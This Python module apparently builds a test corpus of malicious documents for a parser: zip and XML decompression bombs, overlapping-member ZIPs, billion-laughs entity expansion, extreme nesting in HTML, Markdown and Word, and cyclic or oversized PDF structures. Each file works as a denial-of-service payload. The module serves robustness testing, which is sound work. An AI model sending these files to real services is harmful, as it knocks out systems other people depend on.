"""Files made to hang, exhaust or crash whoever reads them."""

import io
import zipfile
import zlib

from . import making

W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def body(inside: bytes) -> bytes:
    return making.replaced(
        making.word(), "word/document.xml", b"<w:document " + W + b"><w:body>" + inside + b"</w:body></w:document>"
    )


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these numbered objects, the first of them its catalogue."""
    out, places = b"%PDF-1.7\n", list[int]()
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return b"%sxref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        out,
        len(objects) + 1,
        table,
        len(objects) + 1,
        len(out),
    )


def page(content: bytes, *more: bytes, resources: bytes = b"/Font<</F 5 0 R>>") -> bytes:
    """A PDF with one page that shows a compressed stream."""
    packed = zlib.compress(content, 9)
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<<%s>>>>" % resources,
            b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            *more,
        ]
    )


def overlapping_zip() -> bytes:
    """A Word document whose members are all one and the same piece of the file, under a thousand names."""
    package = io.BytesIO(making.word())
    with zipfile.ZipFile(package, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/big.xml", b" " * (40 << 20))
        big = archive.getinfo("word/big.xml")
        for number in range(1000):
            twin = zipfile.ZipInfo(f"word/big{number}.xml")
            twin.header_offset, twin.file_size, twin.compress_size = big.header_offset, big.file_size, big.compress_size
            twin.CRC, twin.compress_type = big.CRC, big.compress_type
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
        archive._didModify = True  # pyright: ignore[reportAttributeAccessIssue]
    return package.getvalue()


def attacks() -> dict[str, bytes]:
    deep = 200_000
    word, slides = making.word(), making.slides()
    cell = b"<w:tc><w:tcPr><w:gridSpan w:val='%d'/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>"
    entities = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 1000 + b'"><!ENTITY b "' + b"&a;" * 1000 + b'">]>'
    form = b"<</Type/XObject/Subtype/Form/Resources<</XObject<</X 6 0 R>>>>/Length 5>>stream\n/X Do\nendstream"
    root = b"<</Type/Catalog/Pages 2 0 R>>"
    objects = b"".join(b"%d 0 obj<<>>endobj\n" % number for number in range(300_000))
    styles = b"<w:styles " + W + b">" + b"<w:style/>" * 900_000 + b"</w:styles>"
    entities = b" " * 5000 + entities + b"<x>" + b"&b;" * 999 + b"</x>"
    return {
        "bomb.docx": making.replaced(word, "word/media/x.xml", b" " * (300 << 20)),
        "text-bomb.docx": body(b"<w:p><w:r><w:t>" + b"Tillit er bra. " * 6_000_000 + b"</w:t></w:r></w:p>"),
        "overlapping.docx": overlapping_zip(),
        "deep.docx": body(b"<w:ins>" * deep + b"</w:ins>" * deep),
        "deep-tables.docx": body(b"<w:tbl><w:tr><w:tc>" * 3000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 3000),
        "wide.docx": body(b"<w:tbl><w:tblGrid/><w:tr>" + cell % 90_000_000 + cell % 2 + b"</w:tr></w:tbl>"),
        "entities.docx": making.replaced(word, "word/document.xml", entities),
        "styles.docx": making.replaced(word, "word/styles.xml", styles),
        "bomb.pptx": making.replaced(slides, "ppt/slides/slide1.xml", b"<a>" + b" " * (200 << 20) + b"</a>"),
        "many.pptx": making.zip_of({"ppt/presentation.xml": b"<x/>", **{f"ppt/x{n}": b"" for n in range(20_000)}}),
        "deep.html": b"<html><body>" + b"<div>" * deep + b"tillit",
        "deep-lists.html": b"<html><body>" + b"<ul><li>tillit" * 30_000,
        "table.html": b"<html><table>" + b"<tr>" + b"<td colspan=99999999 rowspan=99999999>tillit" * 100_000,
        "attributes.html": b"<html><p " + b" ".join(b"a%d=1" % n for n in range(400_000)) + b">tillit",
        "class.html": b"<html><p class='" + b"cookie -" * 2_000_000 + b"'>tillit",
        "comments.html": b"<html>" + b"<!--" * 900_000 + b"tillit",
        "declaration.html": b"<?xml " + b"<" * 3_000_000 + b"<html>tillit",
        "quotes.md": b">" * 400_000 + b" tillit",
        "brackets.md": b"[" * 300_000 + b"tillit" + b"](" * 300_000,
        "stars.md": b"**a *" * 300_000 + b"tillit",
        "ticks.md": b"".join(b"`" * n + b" tillit " for n in range(1, 4000)),
        "table.md": b"|a" * 30_000 + b"|\n" + b"|-" * 30_000 + b"|\n" + b"|tillit\n" * 20_000,
        "front.md": b"---\n" * 900_000 + b"tillit",
        "lines.txt": b"tillit\n" * 2_000_000,
        "word.txt": b"tillit" * 1_500_000,
        "spaces.txt": b"tillit" + b" " * 9_000_000 + b"tillit",
        "hyphens.txt": b"tillit-\n" * 900_000,
        "dots.txt": b"tillit. . . . . . " * 300_000,
        "digits.txt": b"1.2.3.4.5.6 " * 700_000 + b"tillit",
        "pages.txt": b"tillit\f" * 900_000,
        "halves.txt": b"\xff\xfe" + b"\x00\xd8" * 900_000 + "tillit".encode("utf-16-le"),
        "stream.pdf": page(b"BT /F 9 Tf (tillit) Tj ET\n" * 3_000_000),
        "nested.pdf": page(b"[" * 3_000_000),
        "states.pdf": page(b"q " * 5_000_000 + b"BT /F 9 Tf (tillit) Tj ET"),
        "itself.pdf": page(b"/X Do", form, resources=b"/XObject<</X 6 0 R>>"),
        "kids.pdf": pdf([root, b"<</Type/Pages/Count 9/Kids[" + b"2 0 R " * 50_000 + b"]>>"]),
        "parent.pdf": pdf([root, b"<</Type/Pages/Parent 2 0 R/Count 99999999/Kids[2 0 R]>>"]),
        "xref.pdf": b"%PDF-1.7\nxref\n0 999999999\ntrailer<</Size 999999999/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF",
        "objects.pdf": b"%PDF-1.7\n" + objects + b"startxref\n0\n%%EOF",
        "dictionary.pdf": pdf([b"<</Type/Catalog/Pages 2 0 R" + b"/A<<" * 100_000 + b">>" * 100_000 + b">>", b"<<>>"]),
        "outline.pdf": pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>",
                b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
                b"<</First 5 0 R/Last 5 0 R>>",
                b"<</Title(tillit)/Next 5 0 R/First 5 0 R/Parent 4 0 R>>",
            ]
        ),
    }
